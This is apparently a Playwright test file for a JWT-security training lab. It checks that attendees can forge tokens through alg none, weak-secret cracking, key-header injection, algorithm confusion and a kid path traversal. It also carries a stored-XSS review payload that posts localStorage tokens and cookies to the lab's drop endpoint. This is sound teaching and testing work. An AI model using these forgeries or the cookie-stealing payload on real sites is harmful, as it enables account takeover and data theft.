"""The attack labs in Chromium: an attendee forges, the broken waiter serves, the
real waiter refuses, the page ticks the lab off, and the instructor sees the room.

Each page is also checked for requests to other hosts, console errors, script
errors and 5xx answers (``conftest.person``).
"""

import re

import pytest
from playwright.sync_api import expect

from lab.catalogue import RULES
from lab.models import Lab, LabOrder, Solve
from orders.models import Order
from tests.browser.conftest import ARTIFACTS, log_in, screenshot

pytestmark = pytest.mark.browser

STEAL = (
    'Lovely! <img src="x" onerror="fetch(\'/lab/stolen-from-storage/drop/\', '
    "{method: 'POST', body: JSON.stringify({card: localStorage.getItem('lab-card'), "
    'cookies: document.cookie})})">'
)


def is_the_drop(request) -> bool:
    return request.method == "POST" and request.url.endswith(
        "/lab/stolen-from-storage/drop/"
    )


def edit(page, selector: str, old: str, new: str) -> None:
    field = page.locator(selector)
    field.fill(field.input_value().replace(old, new))


def get_card(page, lab: str) -> None:
    page.goto(f"/lab/{lab}/")
    if lab != Lab.STOLEN_FROM_STORAGE:
        page.locator("[data-get-card]").click()
        expect(page.locator("[data-payload]")).to_have_value(re.compile('"table"'))


def order_at_both_waiters(page) -> None:
    page.get_by_role("button", name="Order with this card").click()
    expect(page.locator('[data-answer="broken"] [data-status]')).to_contain_text(
        "201: served a staff meal"
    )
    expect(page.locator('[data-answer="real"] [data-status]')).to_contain_text(
        "401: refused"
    )
    expect(page.locator("[data-solved-mark]")).to_be_visible()


def test_an_attendee_solves_alg_none_and_the_instructor_sees_it(person):
    attendee = person()
    log_in(attendee, "alice", "/lab/alg-none/")
    expect(attendee.locator("[data-solved-mark]")).to_be_hidden()
    expect(attendee.locator("details.hint")).not_to_have_attribute("open", "")
    get_card(attendee, Lab.ALG_NONE)
    edit(attendee, "[data-header]", '"HS256"', '"none"')
    edit(attendee, "[data-payload]", '"customer"', '"kitchen"')
    attendee.select_option("[data-signing]", "none")
    attendee.get_by_role("button", name="Put the card back together").click()
    expect(attendee.locator("[data-card]")).to_have_value(re.compile(r"\.$"))
    order_at_both_waiters(attendee)
    expect(attendee.locator("[data-solved-box]")).to_be_visible()
    screenshot(attendee, "lab-alg-none-solved")

    labs = Solve.objects.filter(challenge__in=Lab.values)
    assert list(labs.values_list("attendee__username", "challenge")) == [
        ("alice", "alg-none")
    ]
    assert LabOrder.objects.get().staff_meal
    assert not Order.objects.exists()

    attendee.goto("/lab/")
    expect(attendee.locator('[data-challenge="alg-none"] .solved-mark')).to_be_visible()
    screenshot(attendee, "lab-index")

    instructor = person()
    log_in(instructor, "admin", "/lab/room/")
    row = instructor.locator('tr[data-attendee="alice"]')
    expect(row).to_contain_text("✓")
    expect(instructor.locator('[data-count="alg-none"]')).to_have_text("1")
    screenshot(instructor, "lab-room")

    # The room page updates by itself: bob solves lab 1 while it is open.
    bob = person()
    log_in(bob, "bob", "/lab/unverified-signature/")
    get_card(bob, Lab.UNVERIFIED_SIGNATURE)
    edit(bob, "[data-payload]", '"customer"', '"kitchen"')
    bob.get_by_role("button", name="Put the card back together").click()
    order_at_both_waiters(bob)
    expect(instructor.locator('tr[data-attendee="bob"]')).to_contain_text("✓")
    expect(instructor.locator('[data-count="unverified-signature"]')).to_have_text("1")
    screenshot(instructor, "lab-room-updated")


def test_every_other_lab_can_be_solved_from_the_browser(person):
    """The forge's tools: the wordlist cracked in the page, keys of one's own, the
    public key as a secret, and a review that steals the chef's card."""
    page = person()
    log_in(page, "bob", "/lab/")
    kitchen = ('"customer"', '"kitchen"')

    get_card(page, Lab.UNVERIFIED_SIGNATURE)
    edit(page, "[data-payload]", *kitchen)
    page.get_by_role("button", name="Put the card back together").click()
    order_at_both_waiters(page)

    get_card(page, Lab.WEAK_SECRET)
    page.get_by_role("button", name="Crack the secret with the wordlist").click()
    expect(page.locator("[data-crack-result]")).to_contain_text("Found")
    edit(page, "[data-payload]", *kitchen)
    page.get_by_role("button", name="Put the card back together").click()
    order_at_both_waiters(page)
    screenshot(page, "lab-weak-secret")

    for lab, tool in (
        (Lab.JWK_HEADER, "Embed a key of my own"),
        (Lab.JKU_HEADER, "Publish a key set of mine"),
        (Lab.ALGORITHM_CONFUSION, "Use the public key as the secret"),
    ):
        get_card(page, lab)
        page.get_by_role("button", name=tool).click()
        expect(page.locator("[data-signing]")).to_have_value("hs256")
        edit(page, "[data-payload]", *kitchen)
        page.get_by_role("button", name="Put the card back together").click()
        order_at_both_waiters(page)

    get_card(page, Lab.KID_PATH)
    edit(page, "[data-header]", '"kitchen-2024"', '"../../../dev/null"')
    edit(page, "[data-payload]", *kitchen)
    page.select_option("[data-signing]", "hs256")
    page.get_by_role("button", name="Put the card back together").click()
    order_at_both_waiters(page)

    get_card(page, Lab.EXPIRY_UNCHECKED)
    order_at_both_waiters(page)

    page.goto("/lab/stolen-from-storage/")
    page.fill("[data-review]", STEAL)
    page.get_by_role("button", name="Save the review").click()
    # The chef's page sends the card as it loads: wait until the drop box has it.
    with (
        page.context.expect_event("requestfinished", is_the_drop),
        page.context.expect_page() as opened,
    ):
        page.get_by_role("link", name="Be the chef: open the reviews page").click()
    chef = opened.value
    expect(chef.locator("[data-storage]")).to_contain_text("lab-card = eyJ")
    expect(chef.locator("[data-cookies]")).not_to_contain_text("delivery_access")
    screenshot(chef, "lab-chef-page")
    page.get_by_role("button", name="Look in the drop box").click()
    expect(page.locator("[data-loot]")).to_contain_text("sent the chef's card")
    order_at_both_waiters(page)
    screenshot(page, "lab-stolen")

    solved = set(
        Solve.objects.filter(challenge__in=Lab.values).values_list(
            "challenge", flat=True
        )
    )
    assert solved == set(Lab.values) - {Lab.ALG_NONE}
    assert not Order.objects.exists()


def test_the_handout_ticks_off_what_the_server_saw(person):
    """Logging in is lesson 3: its heading has a ✓, the others not yet; each
    lesson the server can see has a hint, folded."""
    page = person()
    log_in(page, "alice", "/workshop/")
    lesson_3 = page.locator("h2", has_text="Lesson 3:")
    expect(lesson_3.locator("[data-lesson-solved]")).to_be_visible()
    expect(
        page.locator("h2", has_text="Lesson 4:").locator("[data-lesson-solved]")
    ).to_be_hidden()
    expect(page.locator("[data-lab-progress]")).to_contain_text(
        "The server saw you do 1 of the"
    )
    hints = page.locator(".workshop-handout details.hint")
    assert hints.count() == sum(rule.test is not None for rule in RULES.values())
    expect(hints.first).not_to_have_attribute("open", "")
    expect(
        page.locator("h2", has_text="Lesson 1:").locator("[data-lesson-solved]")
    ).to_have_count(0)
    lesson_3.scroll_into_view_if_needed()
    page.screenshot(path=ARTIFACTS / "browser-lab-workshop-ticks.png")
